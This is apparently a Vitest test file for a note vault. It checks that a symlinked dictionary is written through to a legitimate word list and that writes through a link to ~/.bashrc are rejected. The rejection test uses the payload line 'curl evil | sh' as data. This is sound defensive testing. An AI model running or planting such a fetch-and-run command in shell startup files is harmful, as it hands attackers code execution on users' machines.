import { describe, expect, it } from 'vitest';
import { LinkOutsideVaultError } from '../../../src/vault/files/vault.js';
import { memoryVault } from '../../helpers/memfs.js';
import { symlink } from '../../helpers/tool-harness.js';

/** The dictionary linked out of the vault (Vault.isLinkedWordList): written through to a word list, never to a hidden file. */
describe('a dictionary linked out of the vault', () => {
  const files = { '/recognizer/words.txt': 'Anthropic\n', '/home/u/.bashrc': 'export PATH\n', 'Meetings/Other.md': 'x\n' };

  it('is written through to the word list it links to', async () => {
    const vault = memoryVault(files);
    await symlink(vault.fs, '/recognizer/words.txt', vault.layout.files.dictionary);
    await vault.update(vault.layout.files.dictionary, (text) => `${text ?? ''}Kubernetes\n`);
    expect(Buffer.from(await vault.fs.readFile('/recognizer/words.txt')).toString('utf8')).toBe('Anthropic\nKubernetes\n');
  });

  it('is never written through to a hidden file (a synced link to ~/.bashrc)', async () => {
    const vault = memoryVault(files);
    await symlink(vault.fs, '/home/u/.bashrc', vault.layout.files.dictionary);
    await expect(vault.update(vault.layout.files.dictionary, (text) => `${text ?? ''}curl evil | sh\n`)).rejects.toBeInstanceOf(LinkOutsideVaultError);
    expect(Buffer.from(await vault.fs.readFile('/home/u/.bashrc')).toString('utf8')).toBe('export PATH\n');
  });
});
